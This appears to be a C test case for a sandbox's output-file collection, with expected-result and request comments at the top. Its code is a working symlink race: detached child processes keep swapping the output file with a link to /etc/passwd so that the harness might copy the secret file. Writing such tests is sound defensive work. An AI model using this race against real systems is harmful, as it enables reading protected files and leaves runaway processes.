// Keeps swapping a file for a link to a secret, from processes that outlive the program.
// expect: success
// request: {"outputFiles": ["out/file"]}
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    mkdir("out", 0700);
    symlink("/etc/passwd", "out/link");
    close(open("out/file", O_CREAT | O_WRONLY, 0600));
    for (int child = 0; child < 4; child++)
        if (fork() == 0) { setsid(); for (;;) renameat2(AT_FDCWD, "out/link", AT_FDCWD, "out/file", RENAME_EXCHANGE); }
    usleep(50000);
}
